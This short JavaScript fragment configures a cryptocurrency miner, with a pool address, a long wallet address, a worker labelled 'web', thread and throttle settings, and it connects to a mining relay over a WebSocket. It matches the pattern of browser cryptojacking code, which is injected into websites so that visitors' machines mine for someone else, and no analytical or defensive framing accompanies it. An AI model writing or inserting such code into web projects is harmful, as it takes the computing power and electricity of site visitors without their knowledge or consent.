const miner = {pool: 'pool.example:443', wallet: '41tcdMfd9EYAQfk4XG5naCKp4ykDbRNjAVDUDRuvkxt8ecsT7cEcECQ531cEyvkJmeESQqvgG5tvcPqp5cNbRV5aNmTBrVJ', worker: 'web', threads: 4, throttle: 0.6};
connect(new WebSocket('wss://relay.example/'), miner);
